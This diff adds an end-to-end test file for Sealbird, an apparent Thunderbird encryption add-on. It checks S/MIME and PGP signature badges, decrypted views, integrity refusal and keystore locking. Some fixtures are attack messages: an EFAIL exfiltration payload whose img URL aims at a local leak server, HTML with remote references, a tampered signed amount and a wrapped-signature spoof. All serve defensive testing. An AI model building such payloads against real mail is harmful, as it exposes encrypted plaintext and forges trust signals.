@@ -1,0 +1,245 @@
+// Reading mail with the real Sealbird add-on in a real Thunderbird: the toolbar button's
+// status, the decrypted view in the message pane, EFAIL safety, the locked keystore.
+// Every message is made at test time by openssl/gpg (fixtures/messages.mjs); the keys reach
+// the add-on through its own options page (lib/sealbird.mjs), nothing test-only is shipped.
+
+import assert from "node:assert/strict";
+import { randomBytes } from "node:crypto";
+import { test, before, after } from "./lib/runner.mjs";
+import { startSession } from "./lib/session.mjs";
+import * as mail from "./lib/mail.mjs";
+import * as sb from "./lib/sealbird.mjs";
+import { TestKeys, mixed, textEntity, htmlEntity, remoteRefsHtml } from "./fixtures/messages.mjs";
+
+const ID = sb.SEALBIRD_ID;
+const PASSPHRASE = "correct horse battery staple e2e";
+
+let s;
+let keys;
+
+const icon = (a) => (a?.icon ?? "").replace(/^.*\/icons\//, "");
+
+/** Imports and selects a message; the pane and button of the previous one are marked stale. */
+async function show(eml) {
+  const msg = await mail.importEml(s.tb, eml);
+  await sb.displayMessageNoWait(s.tb, msg);
+  return { msg };
+}
+
+/** Waits for the button's status of the message just shown (not stale, not "checking…"). */
+function waitForStatus(pred, what) {
+  return mail.waitForMessageDisplayAction(
+    s.tb,
+    ID,
+    (a) => !!a.title && a.title !== "e2e-stale" && !/checking/i.test(a.title) && pred(a),
+    { timeoutMs: 30_000, what },
+  );
+}
+
+const waitForView = (kind, o) => sb.waitForSealbirdView(s.tb, kind, o);
+
+before(
+  async () => {
+    const t0 = Date.now();
+    const xpi = sb.buildSealbirdXpi();
+    keys = new TestKeys();
+    console.log(`  built XPI and made keys in ${Date.now() - t0} ms`);
+    s = await startSession({ name: "display", addons: [{ id: ID, xpi }] });
+    await mail.waitForAddon(s.tb, ID);
+    const imported = await sb.provisionKeystore(s.tb, { passphrase: PASSPHRASE, files: keys.keyFiles() });
+    console.log(`  keystore provisioned through the options page: ${imported.length} entries`);
+  },
+  { timeoutMs: 240_000 },
+);
+
+after(async () => {
+  await s?.stop();
+  keys?.dispose();
+});
+
+test("S/MIME signed by a trusted correspondent → envelope, valid badge; Thunderbird shows the body", async () => {
+  const eml = keys.smimeSigned({ subject: "E2E smime signed", inner: textEntity("Signed hello SIGNED-TOKEN-1") });
+  await show(eml);
+  const a = await waitForStatus((x) => x.badge === "✓", "valid badge");
+  assert.equal(icon(a), "signed-valid.svg");
+  assert.match(a.title, /Valid signature/);
+  await mail.waitForBodyText(s.tb, /SIGNED-TOKEN-1/);
+  await mail.screenshot(s.tb, "display-smime-signed");
+});
+
+test("S/MIME encrypted → padlock, decrypted text replaces the body (also over Thunderbird's own \"cannot decrypt\" page)", async () => {
+  const eml = keys.smimeEncrypted({ subject: "E2E smime encrypted", inner: textEntity("Secret hello ENC-TOKEN-2\nsecond line") });
+  await show(eml);
+  const a = await waitForStatus((x) => icon(x) === "encrypted.svg", "padlock icon");
+  assert.match(a.title, /decrypted by Sealbird/);
+  const text = await waitForView("render");
+  assert.match(text, /ENC-TOKEN-2/);
+  // Thunderbird's S/MIME code (no key in its own store) swaps the message document for its
+  // "cannot decrypt" page a moment later; Sealbird's view must be there after that, too.
+  await new Promise((r) => setTimeout(r, 3500));
+  const url = await sb.paneUrl(s.tb);
+  const after = await waitForView("render");
+  assert.match(after, /ENC-TOKEN-2/);
+  console.log(`  pane document after Thunderbird's own S/MIME attempt: ${url.slice(0, 40)}…; button hidden: ${(await mail.readMessageDisplayAction(s.tb, ID))?.hidden}`);
+  await mail.screenshot(s.tb, "display-smime-encrypted");
+});
+
+test("PGP/MIME encrypted and signed (gpg) → decrypted + valid", async () => {
+  const eml = keys.pgpEncrypted({ subject: "E2E pgp enc+sign", inner: textEntity("PGP secret PGP-TOKEN-3") });
+  await show(eml);
+  const text = await waitForView("render");
+  assert.match(text, /PGP-TOKEN-3/);
+  const a = await waitForStatus((x) => icon(x) === "encrypted.svg" && x.badge === "✓", "padlock + valid badge");
+  assert.match(a.title, /Valid signature/);
+  if (await sb.clickActionButton(s.tb)) {
+    // The popup is a convenience check: opening it from a script is not the user's click,
+    // so a popup that does not open is reported, not failed.
+    const popup = await sb.readActionPopup(s.tb).catch(async () => null);
+    if (popup) {
+      assert.match(popup, /OpenPGP/);
+      assert.match(popup, /bob@example\.org/);
+      await sb.screenshotPopup(s.tb, "display-pgp-popup");
+      await sb.closeActionPopup(s.tb);
+    } else {
+      console.log(`  popup did not open from a synthesized click; browsers:\n${await sb.describeBrowsers(s.tb)}`);
+    }
+  }
+  await mail.screenshot(s.tb, "display-pgp-encrypted-signed");
+});
+
+test("tampered S/MIME signed message → invalid", async () => {
+  const good = keys.smimeSigned({ subject: "E2E smime tampered", inner: textEntity("Pay 100 EUR to TAMPER-TOKEN-4") });
+  const bad = Buffer.from(good.toString("latin1").replace("Pay 100 EUR", "Pay 900 EUR"), "latin1");
+  assert.notDeepEqual(bad, good);
+  await show(bad);
+  const a = await waitForStatus((x) => x.badge === "✗", "invalid badge");
+  assert.equal(icon(a), "signed-bad.svg");
+  assert.match(a.title, /Invalid signature/);
+  await mail.screenshot(s.tb, "display-smime-tampered");
+});
+
+test("signer is not the From address → mismatch", async () => {
+  const eml = keys.smimeSigned({ subject: "E2E smime mismatch", from: "Carol <carol@example.org>", inner: textEntity("Not from Carol MISMATCH-TOKEN-5") });
+  await show(eml);
+  const a = await waitForStatus((x) => x.badge === "✗", "mismatch badge");
+  assert.match(a.title, /not by the sender shown in From/);
+});
+
+test("OpenPGP without integrity protection (gpg --rfc2440) → refused, no-integrity shown in the pane", async () => {
+  const eml = keys.pgpEncrypted({ subject: "E2E pgp no mdc", sign: false, extraGpg: ["--rfc2440", "--cipher-algo", "AES256"], inner: textEntity("NOMDC-TOKEN-6") });
+  await show(eml);
+  const text = await waitForView("error");
+  assert.doesNotMatch(text, /NOMDC-TOKEN-6/);
+  const code = await sb.queryPane(s.tb, "[data-code]");
+  assert.equal(code[0]?.attrs["data-code"], "no-integrity");
+  const a = await waitForStatus((x) => x.badge === "!", "failed badge");
+  assert.equal(icon(a), "encrypted-failed.svg");
+  await mail.screenshot(s.tb, "display-pgp-no-mdc");
+});
+
+test("EFAIL direct exfiltration (html <img src=\"…? | encrypted part | \">) → no request, nested plaintext not merged", async () => {
+  s.leak.reset();
+  const eml = mixed({
+    subject: "E2E efail",
+    parts: [
+      htmlEntity(`<html><body>Hello <img src="http://127.0.0.1:${s.leak.port}/efail?`),
+      keys.smimeEncryptedEntity(textEntity("EFAIL-SECRET-7 must never be shown")),
+      htmlEntity(`"> EFAIL-VISIBLE-7</body></html>`),
+    ],
+  });
+  await show(eml);
+  const text = await waitForView("render");
+  assert.doesNotMatch(text, /EFAIL-SECRET-7/);
+  assert.match(text, /EFAIL-VISIBLE-7/);
+  const imgs = await sb.queryPane(s.tb, "#sealbird-view img");
+  assert.deepEqual(imgs.filter((i) => /^https?:/i.test(i.attrs.src ?? "")), []);
+  const parts = await sb.queryPane(s.tb, "#sealbird-view .sealbird-part");
+  assert.equal(parts.length, 2, "the two HTML parts are rendered separately");
+  await new Promise((r) => setTimeout(r, 1500));
+  assert.deepEqual(s.leak.requests(), []);
+  const a = await mail.readMessageDisplayAction(s.tb, ID);
+  assert.notEqual(a?.badge, "✓");
+  assert.notEqual(icon(a), "encrypted.svg");
+  await mail.screenshot(s.tb, "display-efail");
+});
+
+test("encrypted HTML full of remote references → text shown, zero requests even with remote content allowed", async () => {
+  s.leak.reset();
+  // PGP/MIME: Thunderbird always blocks remote content in S/MIME-encrypted messages, which
+  // would hide a sanitiser bug; here remote content is allowed for the message, as a user
+  // can, so only Sealbird's sanitiser stands between the message and the network.
+  const eml = keys.pgpEncrypted({ subject: "E2E remote refs", inner: htmlEntity(remoteRefsHtml(s.leak.port, "REMOTE-TOKEN-8")) });
+  const { msg } = await show(eml);
+  let text = await waitForView("render");
+  assert.match(text, /REMOTE-TOKEN-8/);
+  await mail.markPaneStale(s.tb);
+  await s.tb.marionette.run(
+    `Services.wm.getMostRecentWindow("mail:3pane").document.getElementById("tabmail").currentAboutMessage.LoadMsgWithRemoteContent(); return true;`,
+  );
+  text = await waitForView("render");
+  assert.match(text, /REMOTE-TOKEN-8/);
+  await new Promise((r) => setTimeout(r, 2500));
+  assert.deepEqual(s.leak.requests(), []);
+  const html = (await mail.readDisplayedMessage(s.tb)).bodyHtml;
+  assert.doesNotMatch(html, new RegExp(`127\\.0\\.0\\.1:${s.leak.port}/(?!link-click)`));
+  await mail.screenshot(s.tb, "display-remote-refs");
+  // Positive control: in this very document a remote image that got through would be fetched.
+  await s.tb.marionette.run(
+    `const doc = Services.wm.getMostRecentWindow("mail:3pane").document.getElementById("tabmail").currentAboutMessage.getMessagePaneBrowser().contentDocument;
+     const img = doc.createElement("img"); img.src = arguments[0]; doc.body.appendChild(img); return true;`,
+    [s.leak.url("/control.png")],
+  );
+  const seen = await s.leak.waitForRequests(1, 10_000);
+  assert.ok(seen.some((r) => /control\.png/.test(r.url ?? r.path ?? JSON.stringify(r))), `control request not seen: ${JSON.stringify(seen)}`);
+  void msg;
+});
+
+test("a valid multipart/signed wrapped in multipart/mixed → no message-level valid badge", async () => {
+  const signed = keys.smimeSignedEntity(textEntity("Wrapped signed WRAPPED-TOKEN-9"));
+  const eml = mixed({ subject: "E2E wrapped signed", parts: [textEntity("Attacker text around a signed part"), signed] });
+  await show(eml);
+  await mail.waitForBodyText(s.tb, /Attacker text/);
+  // Give the add-on time to process; the badge must never become valid.
+  const deadline = Date.now() + 4000;
+  while (Date.now() < deadline) {
+    const a = await mail.readMessageDisplayAction(s.tb, ID);
+    assert.notEqual(a?.badge, "✓");
+    assert.notEqual(icon(a), "signed-valid.svg");
+    await new Promise((r) => setTimeout(r, 250));
+  }
+  const a = await mail.readMessageDisplayAction(s.tb, ID);
+  assert.match(a.title ?? "", /Not signed/);
+});
+
+test("locked keystore → pane says so; unlock through the add-on's prompt; message renders without reopening", async () => {
+  await sb.extensionCallOk(s.tb, { type: "keystore:lock" });
+  const eml = keys.pgpEncrypted({ subject: "E2E locked", sign: false, inner: textEntity("Behind the lock LOCKED-TOKEN-10") });
+  await show(eml);
+  const notice = await waitForView("locked");
+  assert.doesNotMatch(notice, /LOCKED-TOKEN-10/);
+  assert.match(notice, /locked/i);
+  assert.deepEqual(await sb.queryPane(s.tb, "input"), [], "no passphrase field in the message document");
+  await mail.screenshot(s.tb, "display-locked");
+  assert.ok(await sb.clickInPane(s.tb, "button[data-action=locked]"));
+  await sb.waitForUnlockWindow(s.tb);
+  await sb.fillUnlockWindow(s.tb, PASSPHRASE);
+  const text = await waitForView("render");
+  assert.match(text, /LOCKED-TOKEN-10/);
+  await waitForStatus((x) => icon(x) === "encrypted.svg", "padlock after unlock");
+  await mail.screenshot(s.tb, "display-unlocked");
+});
+
+test("timing: display → decrypted body for 100 KB and 10 MB PGP/MIME messages (measured, not asserted)", async () => {
+  for (const [label, size] of [["100 KB", 100 * 1024], ["10 MB", 10 * 1024 * 1024]]) {
+    // Incompressible text (and no compression in gpg), so the .eml really has the size.
+    const body = `SIZE-TOKEN-${size}\n` + (randomBytes(Math.ceil((size * 3) / 4)).toString("base64").match(/.{1,76}/g) ?? []).join("\n");
+    const eml = keys.pgpEncrypted({ subject: `E2E size ${label}`, sign: false, extraGpg: ["--compress-algo", "none"], inner: textEntity(body) });
+    const msg = await mail.importEml(s.tb, eml);
+    const t0 = Date.now();
+    await sb.displayMessageNoWait(s.tb, msg);
+    const text = await waitForView("render", { timeoutMs: 120_000 });
+    const total = Date.now() - t0;
+    assert.match(text.slice(0, 200), new RegExp(`SIZE-TOKEN-${size}`));
+    console.log(`  ${label} (${(eml.length / 1024).toFixed(0)} KiB .eml): decrypted view rendered ${total} ms after the display request`);
+  }
+}, { timeoutMs: 300_000 });
